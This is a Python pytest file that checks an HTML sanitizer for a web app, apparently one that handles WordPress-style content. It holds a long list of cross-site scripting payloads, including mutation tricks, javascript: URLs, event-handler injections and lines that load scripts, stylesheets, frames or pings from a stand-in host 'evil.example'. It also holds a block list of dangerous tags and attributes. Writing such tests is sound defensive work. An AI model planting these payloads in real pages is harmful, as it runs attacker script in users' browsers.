"""What cleaning must drop, judged by the DOM that is left; and what it must keep."""

from __future__ import annotations

import re
from collections.abc import Mapping
from urllib.parse import urlsplit

import pytest
from lxml import html as dom

from webapp.writer import allowed, markup

RUNS = {
    "script",
    "object",
    "embed",
    "applet",
    "base",
    "meta",
    "link",
    "style",
    "form",
    "button",
    "textarea",
    "select",
    "frame",
    "frameset",
    "svg",
    "math",
    "template",
    "noscript",
}
ADDRESSES = ("href", "src", "action", "formaction", "poster", "data", "srcdoc", "background")
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' oNeRrOr='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster='javascript:alert(1)'></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(x)'>x</p>",
    "<p style='background:\\75rl(https://evil.example/)'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='x' ping='https://evil.example'>x</a>",
    "<p id=x tabindex=1 onfocus=alert(1)>x</p>",
    "<xss onpointerrawupdate=alert(1)>x</xss>",
    "<img src=x srcset='x 1x, javascript:alert(1) 2x'>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
]
KEPT = [
    '<h2 id="x">Title</h2><p>Text with <strong>bold</strong> &amp; <em>more</em> 🌿 مرحبا</p>',
    '<figure class="wp-block-image"><img src="https://a.example/x.png" alt="A"></figure>',
    "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
    '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315"></iframe>',
    '<img src="igny8:leaf" alt="">',
    '<p style="color: red">x</p>',
    '<!-- wp:paragraph {"align":"wide"} --><p>x</p><!-- /wp:paragraph -->',
    '<a href="mailto:a@example.com">a</a><a href="/path?x=1&amp;y=2">b</a>',
    "<pre><code>if (a &lt; b &amp;&amp; c &gt; d) {}</code></pre>",
]


def dangers(cleaned: str) -> list[str]:
    """What a browser's parser finds in it that could run or call."""
    found: list[str] = []
    for element in dom.fragment_fromstring(cleaned, create_parent="div").iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in RUNS:
            found.append(element.tag)
        for name, value in element.attrib.items():
            packed = "".join(value.split()).lower()
            risky = name in ADDRESSES and packed.startswith(("javascript:", "vbscript:", "data:"))
            if name.startswith("on") or name in ("srcdoc", "ping", "formaction") or risky:
                found.append(f"{element.tag}[{name}={value}]")
            if name == "style" and re.search(r"script:|expression|\\\\|binding|behavior", packed):
                found.append(f"style {value}")
        if element.tag == "iframe":
            found += _loose_frame(element.attrib)
    return found


def _loose_frame(given: Mapping[str, str]) -> list[str]:
    """A frame of anybody must stand in a sandbox that keeps it from the page."""
    host = urlsplit(given.get("src", "")).netloc
    if given.get("src", "").startswith("https://") and host in allowed.EMBED_HOSTS:
        return []
    if "sandbox" in given and "allow-same-origin" not in given["sandbox"]:
        return []
    return [f"iframe {dict(given)}"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_is_left(attack: str) -> None:
    for text in (attack, f"<p>{attack}</p>", f"<table><td>{attack}", f"<div title='{attack}'>"):
        assert dangers(markup.clean(text)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nor_after_embeds_became_links_and_images_got_addresses(attack: str) -> None:
    cleaned = markup.with_images_at(markup.shown(attack), {"x": "https://a.example/x.png"})
    assert dangers(cleaned) == []
    assert "<iframe" not in cleaned


@pytest.mark.parametrize("text", KEPT)
def test_what_writers_need_is_kept(text: str) -> None:
    assert markup.clean(text) == text


def test_embeds_become_links_where_nothing_runs() -> None:
    address = "https://player.vimeo.com/1?a=1&amp;b=2"
    assert markup.shown(f'<iframe data-src="javascript:x" src="{address}"></iframe>') == (
        f'<a href="{address}">Embedded from player.vimeo.com</a>'
    )
    assert markup.shown(f'<iframe title="A &lt;film" src="{address}"></iframe>') == (
        f'<a href="{address}">A &lt;film</a>'
    )


def test_the_checker_would_see_an_attack() -> None:
    """The judge of this file finds what an uncleaned text holds."""
    assert dangers("<p onclick=x>a</p>") != []
    assert dangers("<script>x</script>") != []
    assert dangers('<a href="java\nscript:x">a</a>') != []
